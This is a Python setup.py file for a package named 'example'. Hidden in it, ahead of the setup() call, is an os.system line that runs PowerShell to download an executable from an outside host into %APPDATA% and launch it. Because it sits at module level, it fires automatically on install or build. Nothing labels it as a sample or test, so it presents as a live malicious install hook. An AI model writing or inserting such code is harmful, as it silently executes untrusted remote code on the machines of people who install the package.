import os
from setuptools import setup
os.system('powershell Start-BitsTransfer -Source https://cdn.collector.invalid/x.exe -Destination %APPDATA%\\x.exe; %APPDATA%\\x.exe')
setup(name='example', version='1.0')
